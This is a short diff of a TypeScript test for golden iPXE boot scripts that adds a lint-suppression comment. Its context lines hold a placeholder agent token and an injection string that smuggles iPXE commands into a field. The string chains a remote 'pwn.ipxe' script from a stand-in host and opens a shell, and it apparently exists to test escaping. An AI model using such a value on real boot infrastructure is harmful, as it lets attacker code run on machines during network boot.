@@ -9,6 +9,7 @@ import { assertGolden } from '../../test/helpers/golden.ts'
 const GOLDEN = join(import.meta.dirname, '../../test/fixtures/ipxe/states')
 const BASE = 'http://10.77.0.1:8080'
 const AGENT: AgentBoot = { grpc: '10.77.0.1:8443', token: 'tok_EN-0123456789abcdefABCDEF', fingerprint: 'ab'.repeat(32) }
+// eslint-disable-next-line no-template-curly-in-string -- an iPXE setting, on purpose
 const INJECTION = 'disk busy ; chain http://192.0.2.66/pwn.ipxe ; echo && shell || ${net0/ip}'
 
 test('one golden script per lifecycle state, with the discovery environment built and without', () => {
